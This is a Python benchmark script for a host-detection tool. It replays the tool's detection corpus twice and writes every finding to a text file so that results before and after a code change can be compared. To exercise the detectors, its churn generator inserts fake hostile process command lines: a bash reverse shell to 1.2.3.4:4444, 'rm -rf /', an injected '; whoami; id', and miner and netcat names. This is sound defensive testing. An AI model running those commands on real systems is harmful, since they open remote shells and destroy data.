"""Every finding and state of many replays, as one text file: run it before and after a
change to detect/ that must not change what it detects, and compare the two files.

    PYTHONHASHSEED=0 python -m benchmarks.detect_replay /tmp/before.txt   # on the old code
    PYTHONHASHSEED=0 python -m benchmarks.detect_replay /tmp/after.txt    # on the new code
    cmp /tmp/before.txt /tmp/after.txt

Replayed, twice (the second time every catalog-level memo is warm), with two catalogs (the
server's default rules and [detection] settings, and the replay settings): every scenario
of the detection corpus (benchmarks/corpus), every host of the package corpus, and a
churned copy of each package host (25 more minutes in which processes restart, change CPU
and command line, and attack-like processes come and go, from a fixed seed). Each line is
one evaluation: the findings (rule, subject, severity, title, evidence), the state before
it, and `still_violated` for the first findings. The state is round-tripped through its
persisted form every other snapshot, as the server reloads it. PYTHONHASHSEED=0 because
set iteration order reaches the order of some findings and values.
"""

from __future__ import annotations

import hashlib
import random
import sys
from datetime import timedelta
from typing import Any

import msgspec

from benchmarks import corpus as bcorpus
from benchmarks.corpus_report import detection, rules
from kefal_lite.detect import corpus as dcorpus
from kefal_lite.detect.engine import REPLAY, Catalog, evaluate, still_violated
from kefal_lite.detect.model import Finding
from kefal_lite.detect.state import HostState, dumps, loads
from kefal_lite.snapshot import Process, Snapshot

ENC = msgspec.json.Encoder()


def _run(out: list[str], tag: str, snaps: list[Snapshot], cat: Catalog) -> None:
    state = HostState()
    for i, s in enumerate(snaps):
        findings, after = evaluate(s, state, cat, s.timestamp)
        _record(out, f"{tag}#{i}", findings, state, s, cat)
        state = loads(dumps(after)) if i % 2 else after


def _record(out: list[str], tag: str, findings: list[Finding], state: HostState,
            snap: Snapshot, cat: Catalog) -> None:  # fmt: skip
    still = [still_violated(cat, f.invariant_id, f.subject, snap, state, snap.timestamp)
             for f in findings[:6]]  # fmt: skip
    out.append(f"{tag} " + ENC.encode([findings, msgspec.to_builtins(state), still]).decode())


def _churned(host: str, snaps: list[Snapshot]) -> list[Snapshot]:
    rnd = random.Random(host)
    base = snaps[-1]
    procs = list(base.processes)
    seq = []
    for k in range(25):
        procs = list(procs)
        for _ in range(3):
            j = rnd.randrange(len(procs))
            p = procs[j]
            procs[j] = msgspec.structs.replace(
                p, pid=p.pid + 1000 + k, cpu_percent=rnd.choice([0.0, 1.5, 95.0]),
                cmdline=(p.cmdline or "") + rnd.choice(["", " --x", f" run{k}", " ; whoami; id"]),
            )  # fmt: skip
        if rnd.random() < 0.3:
            procs.append(Process(
                pid=50000 + k, user=rnd.choice(["root", "www-data", None]),
                name=rnd.choice(["bash", "python3", "nc", "xmrig", "[kworker/0:1]", "sshd", "tar"]),
                exe=rnd.choice([None, "/tmp/x", "/usr/bin/tar", "/dev/shm/.k"]),
                cmdline=rnd.choice([None, "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", "rm -rf /",
                                    "tar czf /backup.tgz /etc"]),
                ppid=rnd.choice([1, procs[0].pid, None])))  # fmt: skip
        if rnd.random() < 0.2 and len(procs) > 5:
            del procs[rnd.randrange(len(procs))]
        seq.append(msgspec.structs.replace(
            base, processes=procs, timestamp=base.timestamp + timedelta(minutes=k + 1),
            uptime_seconds=base.uptime_seconds + 60 * (k + 1)))  # fmt: skip
    return [*snaps, *seq]


def main() -> None:
    out: list[str] = []
    invariants, _ = rules()
    catalogs = [Catalog(invariants, detection()), Catalog(invariants, REPLAY)]
    for rep in range(2):
        for ci, cat in enumerate(catalogs):
            for sc in bcorpus.load():
                snaps, _ = bcorpus.sequence(sc)
                _run(out, f"r{rep}c{ci}:{sc.id}", snaps, cat)
            hosts: dict[str, Any] = dcorpus.load()
            for host, snaps in hosts.items():
                _run(out, f"r{rep}c{ci}:pkg:{host}", list(snaps), cat)
                _run(out, f"r{rep}c{ci}:churn:{host}", _churned(host, list(snaps)), cat)
    text = "\n".join(out)
    with open(sys.argv[1], "w", encoding="utf-8") as fh:
        fh.write(text)
    print(len(out), "evaluations, sha256", hashlib.sha256(text.encode()).hexdigest())


if __name__ == "__main__":
    main()
